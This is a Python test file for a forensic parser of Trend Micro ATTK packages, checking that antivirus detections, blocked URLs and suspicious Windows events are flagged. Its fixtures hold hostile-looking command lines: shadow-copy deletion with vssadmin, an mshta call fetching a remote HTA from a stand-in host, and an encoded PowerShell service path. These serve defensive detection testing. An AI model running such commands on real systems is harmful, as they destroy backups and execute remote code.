"""Logs that ride along in an ATTK package: of the OfficeScan agent and of Windows itself."""

from collections.abc import Callable
from typing import Any

import event_log_builder
import pytest
from attk_reports import ASSESS, SCAN

from caseway_kit.archives import Content
from sample_analysis.engines import command_lines, text_streams

Examine = Callable[..., Any]
MakeZip = Callable[[dict[str, bytes]], bytes]

VIRUS = "20260105<;>0930<;>Eicar_test_file<;>1<;>1<;><;>C:\\Temp\\<;>eicar.com<;><;>1767605400<;><;>\r\n"
BLOCKED = (
    "20260105<;>0931<;>1<;>http://bad.example/x<;>4E<;>Malware Accomplice<;>0<;>1<;>browser.exe<;>49<;>192.0.2.7"
    "<;>51<;>1767605460<;>\r\n"
)
PASSED = BLOCKED.replace("<;>1<;>http://bad", "<;>0<;>http://other")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1252"])
def test_agent_logs_tell_detections_and_addresses(examine: Examine, make_zip: MakeZip, encoding: str) -> None:
    package = make_zip(
        {
            "log/scanreport.xml": SCAN.encode(),
            "OfficeScan/pccnt35.log": VIRUS.replace("eicar.com", "größe.com").encode(encoding),
            "OfficeScan/OfcUrlf.log": (BLOCKED + PASSED).encode(encoding),
        }
    )
    report = examine(package, "attk.zip", "attk_log")
    [log] = report.parsed.attk_logs
    found = {finding.rule: finding for finding in log.findings}
    assert found["antivirus-detection"].where == "C:\\Temp\\größe.com"
    says = "OfficeScan found Eicar_test_file by real-time scan on 20260105: moved to quarantine."
    assert found["antivirus-detection"].says == says
    assert found["blocked-address"].where == "http://bad.example/x"
    assert "category 78 (Malware Accomplice), score 49" in found["blocked-address"].says
    assert [url.url for url in report.parsed.urls] == ["http://bad.example/x", "http://other.example/x"]
    assert log.summary.detections == 1
    assert "antivirus-detection" in {reason.rule for reason in log.reasons}


def test_renamed_agent_log_is_known_by_its_separators(examine: Examine, make_zip: MakeZip) -> None:
    package = make_zip({"scanreport.xml": SCAN.encode(), "old/virus-2025.log": VIRUS.encode()})
    [log] = examine(package, "attk.zip", "attk_log").parsed.attk_logs
    assert log.summary.detections == 1


def test_damaged_lines_are_passed_over(examine: Examine, make_zip: MakeZip) -> None:
    lines = "<;><;>\r\n" + "<;>" * 500 + "\r\n" + "x" * 300_000 + "\r\n" + VIRUS.replace("<;>1<;>1", "<;>zz<;>9")
    package = make_zip({"scanreport.xml": SCAN.encode(), "pccnt35.log": lines.encode() + b"\x00\xff\xfe<;>\n"})
    [log] = examine(package, "attk.zip", "attk_log").parsed.attk_logs
    assert [finding.says for finding in log.findings if finding.rule == "antivirus-detection"] == [
        "OfficeScan found Eicar_test_file by a scan on 20260105: action code zz."
    ]


def test_event_logs_tell_what_a_person_should_look_at(examine: Examine, make_zip: MakeZip) -> None:
    encoded = "powershell -enc " + "QQ" * 30
    log_file = event_log_builder.build(
        ("Microsoft-Windows-Eventlog", 1102, {}),
        ("Service Control Manager", 7045, {"ServiceName": "Updater", "ImagePath": encoded}),
        ("Service Control Manager", 7045, {"ServiceName": "Spooler", "ImagePath": "C:\\Windows\\spool.exe"}),
        ("Microsoft-Windows-Security-Auditing", 4688, {"CommandLine": "vssadmin.exe delete shadows /all"}),
        ("Microsoft-Windows-Security-Auditing", 4688, {"CommandLine": "notepad.exe C:\\Users\\a\\notes.txt"}),
        ("Microsoft-Windows-Windows Defender", 1116, {"Threat Name": "Virus:DOS/EICAR", "Path": "C:\\Temp\\e.com"}),
        *[("Microsoft-Windows-Security-Auditing", 4625, {"TargetUserName": "a"})] * 60,
    )
    report = examine(make_zip({"Security.evtx": log_file, "scanreport.xml": SCAN.encode()}), "attk.zip", "attk_log")
    [log] = report.parsed.attk_logs
    assert [finding.rule for finding in log.findings if finding.rule != "suspicious-file"] == [
        "log-cleared",
        "suspicious-service",
        "suspicious-command",
        "antivirus-detection",
        "failed-logons",
    ]
    assert (log.summary.events, log.summary.detections) == (66, 1)


@pytest.mark.parametrize("keep", [8, 100, 4096, 4200, 5000, 70_000])
def test_cut_or_damaged_event_log_ends_with_what_was_read(examine: Examine, make_zip: MakeZip, keep: int) -> None:
    whole = event_log_builder.build(("Microsoft-Windows-Eventlog", 1102, {}))
    damaged = whole[:keep] + b"\xff" * 400 + whole[keep + 400 :]
    for log_file in (whole[:keep], damaged):
        report = examine(make_zip({"a.evtx": log_file, "scanreport.xml": SCAN.encode()}), "attk.zip", "attk_log")
        assert report.parsed.attk_logs[0].entries.suspicious == 1


def test_summary_counts_what_the_report_lists(examine: Examine, make_zip: MakeZip) -> None:
    more = (
        "<a:Processes><a:Process><a:CommandLine>mshta http://bad.example/a.hta</a:CommandLine></a:Process>"
        "<a:Process><a:CommandLine>explorer.exe</a:CommandLine></a:Process></a:Processes>"
        "<a:DNSCache><a:DNSCacheEntry>x.example</a:DNSCacheEntry></a:DNSCache></a:AssessReport>"
    )
    report = examine(
        make_zip({"assessreport.xml": ASSESS.replace("</a:AssessReport>", more).encode()}), "attk.zip", "attk_log"
    )
    [log] = report.parsed.attk_logs
    assert (log.summary.files, log.summary.autoruns, log.summary.processes) == (3, 3, 2)
    assert (log.summary.ports, log.summary.dns_entries, log.summary.urls) == (2, 1, 1)
    assert [finding.where for finding in log.findings if finding.rule == "suspicious-command"] == [
        "mshta http://bad.example/a.hta"
    ]


def test_line_without_an_end_costs_no_memory() -> None:
    whole = Content.of_bytes(b"a\n" + b"x" * 3_000_000 + b"\nb")
    assert [len(line) for line in text_streams.lines(whole)] == [1, text_streams.LONGEST_LINE, 1]


@pytest.mark.parametrize("worst", ["powershell -e " + "A" * 39 + " ", "regsvr32 ", "certutil ", "cmd ", '"', "\\"])
def test_worst_lines_are_judged_in_no_time(worst: str) -> None:
    line = worst * (100_000 // len(worst))
    assert command_lines.program_of(line) is not None
    assert command_lines.starts_script(line) in (True, False)
    assert command_lines.is_suspicious(line) in (True, False)
